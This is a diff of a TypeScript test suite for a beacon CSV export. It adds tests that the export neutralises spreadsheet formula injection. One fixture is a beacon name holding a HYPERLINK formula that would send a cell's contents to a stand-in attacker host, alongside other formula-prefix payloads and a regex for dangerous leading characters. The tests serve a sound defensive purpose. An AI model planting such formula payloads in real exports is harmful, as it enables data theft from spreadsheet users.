@@ -1,8 +1,9 @@
+import { parse } from 'csv-parse/sync';
 import writeXlsxFile from 'write-excel-file/node';
 import type { BeaconImportReport, BeaconPage } from '../../../../server/src/schemas/beacon.js';
 import { readTable } from '../../../../server/src/transfer/table.js';
 import type { App } from '../../../../server/src/types.js';
-import { CONSOLE_HEADERS, DEMO, buildTestApp, call, login, type Envelope } from '../../helpers.js';
+import { CONSOLE_HEADERS, DEMO, buildTestApp, call, login, post, type Envelope } from '../../helpers.js';
 import { demoBuildings } from './poiFixtures.js';
 
 /** Issue 13: beacons as tables — an upload (CSV or XLSX) checked by a dry run, then imported all or nothing; the CSV export keeps ids as text. */
@@ -149,7 +150,7 @@ describe('issue 13: the import takes all of it or nothing', () => {
 });
 
 describe('issue 13: the CSV export', () => {
-  it('issue 13: keeps ids as text for Excel (="…"), and reads back as a table of the same beacons', async () => {
+  it('issue 13: keeps ids and UUIDs as written, and reads back as a table of the same beacons', async () => {
     const res = await app.inject({
       method: 'GET',
       url: `/api/location/beacon/export?buildingId=${ids.mall}`,
@@ -163,8 +164,9 @@ describe('issue 13: the CSV export', () => {
     expect(lines[0]).toBe(
       `\uFEFFid,${HEADER.split(',').slice(0, 5).join(',')},name,lng,lat,measuredPower,txPower,intervalMs,firmware,battery,batteryReadAt,externalPower,lifecycle,installedOn,installedBy,lastSeenAt,health`,
     );
-    expect(lines[1]).toMatch(/^"=""\d+""","?[^,]*"?,"=""[0-9a-f-]{36}"""/);
-    const table = await readTable(Buffer.from(res.body));
+    // Issue 31: no cell is a formula any more (the ="…" guard was one): ids and UUIDs are written as they are.
+    expect(lines[1]).toMatch(/^\d+,"?[^,]*"?,[0-9a-f-]{36},/);
+    const table = readTable(Buffer.from(res.body), { maxRows: 1000 });
     expect(table.length - 1).toBe(await count(ids.mall));
     expect(table[1]![2]).toMatch(/^[0-9a-f-]{36}$/);
   });
@@ -184,5 +186,43 @@ describe('issue 13: the CSV export', () => {
     expect((await upload(csv(row(44001)), `buildingId=${ids.tower}`)).body.code).toBe(10004);
     expect((await call(app, `/api/location/beacon/export?buildingId=${ids.tower}`, cookies.company)).body.code).toBe(10004);
     expect((await upload(csv(row(44002)), `buildingId=${ids.mall}`, 'analyst')).body.code).toBe(10003);
+  });
+});
+
+describe('issue 31 §2: formula cells in the beacon CSV', () => {
+  /** Names an attacker with UPLOAD_BEACON might give beacons, each a formula a spreadsheet would run, and one already escaped. */
+  const NAMES = ['=HYPERLINK("http://attacker.example/?x="&B2,"详情")', '+1+1', '-1+1', '@SUM(A1)', "'=1+1"];
+  const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
+  const exported = async () =>
+    (await app.inject({ method: 'GET', url: `/api/location/beacon/export?buildingId=${ids.mall}`, headers: { ...CONSOLE_HEADERS, cookie: cookies.company! } }))
+      .body;
+
+  it('issue 31 §2: the export writes no live formula, and export -> import gives back exactly the names entered', async () => {
+    const minors = NAMES.map((_, i) => 45001 + i);
+    // In a file, an apostrophe before a formula character marks text (as in Excel): the name '=1+1 is written ''=1+1.
+    const cellOf = (name: string) => quoted(name.startsWith("'") ? `'${name}` : name);
+    const file = Buffer.from(`${HEADER}\n${NAMES.map((name, i) => row(minors[i]!, { name: cellOf(name) })).join('\n')}\n`);
+    expect((await upload(file, `buildingId=${ids.mall}&dryRun=false`)).body.data).toMatchObject({ imported: NAMES.length });
+
+    const csvText = await exported();
+    const cells = (parse(csvText, { bom: true }) as string[][]).slice(1);
+    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+    const mine = cells.filter((cells) => minors.includes(Number(cells[4])));
+    expect(mine.map((cells) => cells[6])).toEqual(NAMES.map((name) => `'${name}`));
+
+    // Delete them, upload the export's lines of those beacons as they are, and read the names back.
+    const page = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
+    const created = page.records.filter((b) => minors.includes(b.minor));
+    await post(app, '/api/location/beacon/delete', { ids: created.map((b) => b.id) }, cookies.company);
+    const lines = csvText.split('\r\n');
+    const again = [lines[0], ...lines.filter((line) => minors.some((minor) => line.includes(`,${minor},`)))].join('\r\n');
+    expect((await upload(Buffer.from(again), `buildingId=${ids.mall}&dryRun=false`)).body.data).toMatchObject({ imported: NAMES.length });
+    const back = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
+    expect(
+      back.records
+        .filter((b) => minors.includes(b.minor))
+        .sort((a, b) => a.minor - b.minor)
+        .map((b) => b.name),
+    ).toEqual(NAMES);
   });
 });
